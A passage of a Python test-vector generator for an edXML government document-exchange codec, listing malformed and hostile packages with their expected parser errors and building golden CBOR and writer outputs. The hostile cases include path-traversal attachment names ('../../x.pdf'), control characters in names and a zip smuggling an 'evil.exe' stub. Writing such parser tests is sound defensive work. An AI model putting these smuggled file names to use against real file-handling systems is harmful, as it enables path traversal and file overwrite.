        "zip-truncated": (edoc_with([("a.pdf", "application/zip", wrapped[:-30])]), "EdxmlZipError"),
        "zip-two-files-uuid-first": (
            edoc_with([("a.pdf", "application/zip", zip_files([(f"{WRAP_UUID}.pdf", ok_pdf), ("evil.exe", b"MZ")]))]),
            "EdxmlZipError",
        ),
        "name-dotdot": (edoc_with([("../../x.pdf", "application/pdf", ok_pdf)]), "EdxmlUnsafeNameError"),
        "name-slash": (edoc_with([("a/b.pdf", "application/pdf", ok_pdf)]), "EdxmlUnsafeNameError"),
        "name-backslash": (edoc_with([("C:\\x.pdf", "application/pdf", ok_pdf)]), "EdxmlUnsafeNameError"),
        "name-control": (edoc_with([("a&#1;.pdf", "application/pdf", ok_pdf)]), "EdxmlSyntaxError"),
        "name-newline": (edoc_with([("a&#10;b.pdf", "application/pdf", ok_pdf)]), "EdxmlUnsafeNameError"),
        "status-with-body": (
            status(3).replace(
                b"</edXML:edXMLHeader></edXML:edXMLEnvelope></edXML:edXML>",
                b'</edXML:edXMLHeader><edXML:edXMLBody><edXML:edXMLManifest version="1.0"><edXML:Reference><edXML:ContentId>cid:1'
                b"</edXML:ContentId></edXML:Reference></edXML:edXMLManifest></edXML:edXMLBody></edXML:edXMLEnvelope></edXML:edXML>",
            ),
            "EdxmlHeaderError",
        ),
        "edoc-without-from": (
            edoc_with([]).replace(org("From", "000.00.00.G22", "Văn phòng Chính phủ").encode(), b""),
            "EdxmlHeaderError",
        ),
        "edoc-without-to": (edoc_with([]).replace(org("To", "000.00.00.H29", "UBND TP HCM").encode(), b""), "EdxmlHeaderError"),
        "duplicate-to": (
            edoc_with([], message_extra=org("To", "000.00.00.H29", "UBND TP HCM")),
            "EdxmlHeaderError",
        ),
        "bad-business-type": (
            edoc_with([], business="<edXML:Bussiness><edXML:BussinessDocType>7</edXML:BussinessDocType></edXML:Bussiness>"),
            "EdxmlHeaderError",
        ),
    }


# --- golden vectors ------------------------------------------------------------------


def golden() -> dict[str, tuple[str, bytes]]:
    """Bytes the codec must keep producing: CBOR forms and the writer's output."""
    from protocol.edxml import (
        EdocFields,
        FileSpec,
        ResponseFor,
        StatusFields,
        ZipMode,
        build_edoc,
        build_status,
        encode_package,
        read_package,
        with_trace,
        write_bytes,
    )

    names = {"000.00.00.G22": "Văn phòng Chính phủ", "000.00.00.H29": "UBND Thành phố Hồ Chí Minh"}.get
    fields = EdocFields(
        sender="000.00.00.G22",
        recipients=("000.00.00.H29",),
        subject="Về việc thử nghiệm trục liên thông văn bản",
        number="15",
        notation="VPCP-KSTT",
        type_name="Công văn",
        place="Hà Nội",
        date="2026-11-22",
        signer="Nguyễn Văn A",
        signer_title="Phó Chủ nhiệm",
        urgency=1,
        due="2026-12-15",
    )
    file = pdf("golden", 200)
    built = build_edoc(
        fields,
        names=lambda c: names(c) or "",
        files=[FileSpec("cong-van.pdf", "application/pdf", len(file), hashlib.sha256(file).digest())],
        trace=[("000.00.00.G22", AT)],
    )
    seq = iter(range(1, 1 << 30))

    def rng(n: int) -> bytes:
        return bytes(next(seq) % 256 for _ in range(n))

    st = build_status(
        StatusFields(
            "000.00.00.H29",
            ResponseFor("000.00.00.G22", "15/VPCP-KSTT", "2026/11/22", built.edoc.document_id if built.edoc else ""),
            3,
            AT + 60_000,
            "Đã vào sổ",
        ),
        names=lambda c: names(c) or "",
    )
    vnpt, _ = read_package(vnpt_zipped())
    return {
        "cbor-built-edoc": ("CBOR form v1 of a built edoc with one attachment", encode_package(built)),
        "cbor-status-03": ("CBOR form v1 of a built status 03", encode_package(st)),
        "cbor-vnpt-read": ("CBOR form v1 of corpus/vnpt-zipped.edxml as read (unwrapped attachment)", encode_package(vnpt)),
        "write-built-raw": ("writer output: the built edoc, attachment raw", write_bytes(built, [file])),
        "write-built-zip": (
            "writer output: the built edoc, attachment in VNPT's zip (rng counting from 1), TraceHeader appended at H29",
            write_bytes(with_trace(built, "000.00.00.H29", AT + 5_000), [file], zip=ZipMode.ZIP, at_ms=AT, rng=rng, zip_level=6),
        ),
        "write-status-03": ("writer output: the built status 03", write_bytes(st)),
    }


def main() -> None:
    for sub in ("corpus", "hostile", "golden"):
        (HERE / sub).mkdir(exist_ok=True)
        for old in (HERE / sub).iterdir():
            old.unlink()
    for name, data in corpus().items():
        (HERE / "corpus" / f"{name}.edxml").write_bytes(data)
    for name, (data, _) in hostile().items():
        if len(data) <= 128 << 10:
            (HERE / "hostile" / f"{name}.edxml").write_bytes(data)
    for name, (comment, data) in golden().items():
        (HERE / "golden" / f"{name}.hex").write_text(to_hex_file(comment, data))
    print(f"wrote {HERE}")


if __name__ == "__main__":
    main()
